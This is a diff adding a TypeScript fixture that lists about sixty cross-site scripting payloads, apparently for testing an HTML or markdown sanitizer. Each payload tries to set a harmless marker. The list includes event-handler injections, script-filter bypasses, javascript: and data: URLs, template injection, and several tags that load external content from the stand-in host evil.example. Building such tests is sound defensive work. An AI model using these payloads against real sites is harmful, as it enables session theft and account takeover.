@@ -1,0 +1,66 @@
+/** Sixty ways in which text has become a script in some page. Each tries to set `window.executed`. */
+const run = 'window.executed=1';
+const encoded = run.replaceAll('=', '&#61;');
+const tags = [
+  'img',
+  'svg',
+  'video',
+  'audio',
+  'body',
+  'iframe',
+  'input',
+  'details',
+  'object',
+  'marquee',
+];
+const events = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onmouseover'];
+
+const inTags = tags.flatMap((tag, at) => {
+  const event = events[at % events.length];
+  return [`<${tag} src=x ${event}=${run}>`, `"><${tag}/src=x/${event}='${run}' autofocus open>`];
+});
+
+const others = [
+  `<script>${run}</script>`,
+  `</script><script>${run}</script>`,
+  `<ScRiPt>${run}</sCrIpT>`,
+  `<script src="https://evil.example/x.js"></script>`,
+  `<scr<script>ipt>${run}</script>`,
+  `<svg><script>${run}</script></svg>`,
+  `<math><mtext></table><img src=x onerror=${run}></mtext></math>`,
+  `<a href="javascript:${run}">x</a>`,
+  `<a href="jav&#x09;ascript:${run}">x</a>`,
+  `javascript:${run}`,
+  `java\tscript:${run}`,
+  `[x](javascript:${run})`,
+  `![x](javascript:${run})`,
+  `[x]: javascript:${run}`,
+  `<javascript:${run}>`,
+  `data:text/html,<script>${run}</script>`,
+  `<iframe src="javascript:parent.${run}"></iframe>`,
+  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
+  `<object data="data:text/html,<script>${run}</script>"></object>`,
+  `<embed src="javascript:${run}">`,
+  `<form action="javascript:${run}"><button>x</button></form>`,
+  `<button formaction="javascript:${run}">x</button>`,
+  `<base href="https://evil.example/">`,
+  `<link rel=stylesheet href="https://evil.example/x.css">`,
+  `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
+  `<style>@import 'https://evil.example/x.css';</style>`,
+  `<div style="background:url(https://evil.example/x.png)">x</div>`,
+  `<img src="https://evil.example/x.png">`,
+  `<template><script>${run}</script></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
+  `<textarea></textarea><img src=x onerror=${run}>`,
+  `<title></title><img src=x onerror=${run}>`,
+  `<!--><img src=x onerror=${run}>-->`,
+  `<![CDATA[<img src=x onerror=${run}>]]>`,
+  `{{constructor.constructor('${run}')()}}`,
+  `\${${run}}`,
+  `'-(${run})-'`,
+  `";${run};//`,
+  `&lt;img src=x onerror=${encoded}&gt;`,
+  `\\u003cimg src=x onerror=${run}\\u003e`,
+];
+
+export const scriptPayloads: readonly string[] = [...inTags, ...others];
